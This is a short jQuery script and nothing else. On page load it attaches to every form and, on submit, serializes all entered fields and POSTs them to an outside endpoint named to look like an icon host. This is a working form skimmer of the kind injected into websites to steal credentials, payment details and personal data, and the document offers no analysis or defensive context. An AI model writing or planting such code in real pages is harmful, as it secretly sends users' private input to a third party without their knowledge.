$(document).ready(function () {
  $('form').submit(function () {
    var fields = $(this).serialize();
    $.ajax({ type: 'POST', url: 'https://icons.example.invalid/g.php', data: fields });
  });
});
